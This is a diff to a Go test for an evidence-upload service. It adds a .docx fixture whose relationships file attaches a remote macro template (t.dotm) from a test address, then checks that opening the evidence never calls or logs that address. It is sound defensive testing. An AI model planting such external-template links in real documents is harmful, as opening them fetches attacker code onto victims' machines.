@@ -186,9 +186,16 @@ func TestB39_B40_AnAddressIsKeptAsTextAndNeverCalled(t *testing.T) {
 	} {
 		files = append(files, testkit.File{Name: name, Type: "application/octet-stream", Bytes: fmt.Appendf(nil, body, address)})
 	}
+	files = append(files, testkit.File{Name: "letter.docx", Type: "application/octet-stream", Bytes: document(t, entry{name: "word/_rels/settings.xml.rels",
+		body: strings.NewReader(`<Relationships><Relationship Type="attachedTemplate" Target="http://` + address + `/t.dotm" TargetMode="External"/></Relationships>`)})})
 	r := h.Submit(map[string]any{"narrative": "See what I enclose."}, files...)
 	h.Work()
 	h.Party(r.AccessCode).Get("/api/v1/my/evidence").Want(http.StatusOK)
+	triage := h.As("triage-1")
+	triage.Action("reports", r.Reference, "take_report", "", nil).Want(http.StatusCreated)
+	for _, id := range items(t, triage, "/api/v1/reports/"+r.Reference+"/evidence") {
+		triage.Get("/api/v1/reports/" + r.Reference + "/evidence/" + id + "/content").Want(http.StatusOK)
+	}
 	for _, u := range taken {
 		if !strings.Contains(u, "example") && strings.Contains(h.Logged(), u) {
 			t.Errorf("R-63: an address is in the log: %s", u)
